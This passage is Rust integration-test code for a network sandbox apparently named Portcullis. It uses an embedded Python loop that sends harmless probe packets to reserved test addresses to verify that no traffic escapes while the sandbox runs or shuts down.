    assert_eq!(world.packets_to_port(World::DNS_V6.into(), "tcp", 853), 0);
    assert_eq!(world.packets_to_port(ip4(96), "udp", 443), 0);
    assert!(world.dns_log().is_empty(), "{:?}", world.dns_log());
    let json_err = stderr(&out);
    for flow in [
        "blocked  198.51.100.99:9999/udp",
        "blocked  [2001:db8::99]:9999/udp",
        "blocked  198.51.100.97:443/udp",
        "blocked  198.51.100.98:443/tcp",
    ] {
        assert!(json_err.contains(flow), "{flow}: {json_err}");
    }
}

// ------------------------------------------------------------------------------------------
// Connections attempted without pause while Portcullis exits.
// ------------------------------------------------------------------------------------------

/// Sends a UDP datagram and a TCP SYN to each family's hard-coded address every 2 ms, from
/// two processes: CMD, and a child that left CMD's session and ignores every signal it can
/// (only the end of the PID namespace stops it). With role "term", CMD goes on for 0.5 s after
/// SIGTERM, then dies of it. Each process writes its attempt count to a file every 20 tries.
/// Bounded: 60 s or 30,000 attempts.
const LOOP_PY: &str = r#"
import os, signal, socket, sys, time
out, h4, h6, port, role = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]

def loop(name, stop_at):
    pending, n, deadline = [], 0, time.monotonic() + 60
    while n < 30000 and time.monotonic() < min(deadline, stop_at[0]):
        for family, address in ((socket.AF_INET, h4), (socket.AF_INET6, h6)):
            try:
                with socket.socket(family, socket.SOCK_DGRAM) as u:
                    u.sendto(b"x", (address, port))
                t = socket.socket(family, socket.SOCK_STREAM)
                t.setblocking(False)
                t.connect_ex((address, port))
                pending.append(t)  # kept open: the kernel retransmits its SYN
            except OSError:
                pass
        while len(pending) > 64:
            pending.pop(0).close()
        n += 1
        if n % 20 == 0:
            with open(os.path.join(out, name + ".tmp"), "w") as f:
                f.write(str(n))
            os.rename(os.path.join(out, name + ".tmp"), os.path.join(out, name))
        time.sleep(0.002)

if os.fork() == 0:
    os.setsid()
    for s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGUSR1):
        signal.signal(s, signal.SIG_IGN)
    loop(role + "-child", [float("inf")])
    os._exit(0)

stop_at = [float("inf")]
def on_term(signum, frame):
    stop_at[0] = time.monotonic() + 0.5
if role == "term":
    signal.signal(signal.SIGTERM, on_term)
loop(role + "-parent", stop_at)
signal.signal(signal.SIGTERM, signal.SIG_DFL)
os.kill(os.getpid(), signal.SIGTERM)
"#;

#[test]
fn connections_attempted_while_portcullis_exits_never_get_out() {
    use nix::sys::signal::{Signal, kill};
    use nix::unistd::Pid;

    const PORT: u16 = 7100;
    let world = World::new(&Zone::new().a(PROBE, PROBE4, 300));
    world.serve_tcp(PORT);
    world.serve_udp(PORT);
    let before = residue(&world);
    let dir = world.run_dir().join("exit");
    std::fs::create_dir(&dir).unwrap();
    let dir_arg = dir.to_str().unwrap();
    let port = PORT.to_string();
    // One run is sent SIGTERM (forwarded to CMD, then teardown), the other SIGKILL (the
    // sandbox dies with Portcullis; its table stays until `cleanup`). Each has its own targets.
    let targets: [(&str, &str, &str); 2] = [
        ("term", "198.51.100.101", "2001:db8::101"),
        ("kill", "198.51.100.102", "2001:db8::102"),
    ];
    let mut runs: Vec<KillOnDrop> = targets
        .iter()
        .map(|(role, t4, t6)| {
            KillOnDrop::spawn(&mut run_cmd(
                &world,
                &["--allow", PROBE],
                &python(LOOP_PY, &[dir_arg, t4, t6, &port, role]),
            ))
        })
        .collect();
    let addresses: Vec<IpAddr> = targets
        .iter()
        .flat_map(|(_, t4, t6)| [t4.parse().unwrap(), t6.parse().unwrap()])
        .collect();
    let arrived = || -> u64 { addresses.iter().map(|a| world.packets_to(*a)).sum() };
    let count = |name: &str| -> u64 {
        std::fs::read_to_string(dir.join(name))
            .ok()
            .and_then(|n| n.parse().ok())
            .unwrap_or(0)
    };
    let processes = ["term-parent", "term-child", "kill-parent", "kill-child"];
    assert!(
        wait_until(Duration::from_secs(30), || processes
            .iter()
            .all(|p| count(p) >= 100)),
        "the loops never got going: {:?}",
        processes.map(count)
    );
    assert_eq!(arrived(), 0, "arrived while the sandboxes ran");

    let at_signal = count("term-parent");
    kill(Pid::from_raw(runs[0].pid() as i32), Signal::SIGTERM).unwrap();
    kill(Pid::from_raw(runs[1].pid() as i32), Signal::SIGKILL).unwrap();
    // Throughout the exit: read the world's counters until both runs are gone.
    let mut running = true;
    let ended = wait_until(Duration::from_secs(30), || {
        assert_eq!(arrived(), 0, "arrived while Portcullis exited");
        running = runs.iter_mut().any(|r| matches!(r.0.try_wait(), Ok(None)));
        !running
    });
    assert!(ended, "a run did not end");
    let term = runs[0].output_within(Duration::from_secs(5));
    let killed = runs[1].output_within(Duration::from_secs(5));
    assert_eq!(term.status.code(), Some(143), "CMD died of the SIGTERM");
    assert_eq!(killed.status.code(), None, "killed by a signal");
    assert!(
        count("term-parent") > at_signal,
        "CMD made no attempt while Portcullis handled the signal"
    );
    // After: the SIGKILLed sandbox's network goes with its processes; nothing arrives later.
    assert!(
        wait_until(Duration::from_secs(20), || sandbox_links(&world).is_empty()),
        "a sandbox link outlived its run: {:?}",
        sandbox_links(&world)
    );
    settled_zero("after the runs", arrived);
    assert!(
        stderr(&term).contains("blocked  198.51.100.101:7100/udp"),
        "{}",
        stderr(&term)
    );
    let cleanup = world
        .uplink_cmd(env!("CARGO_BIN_EXE_portcullis"))
        .arg("cleanup")
        .output()
        .unwrap();
    assert!(cleanup.status.success(), "{}", stderr(&cleanup));
    assert_eq!(residue(&world), before, "the runs left something behind");
}
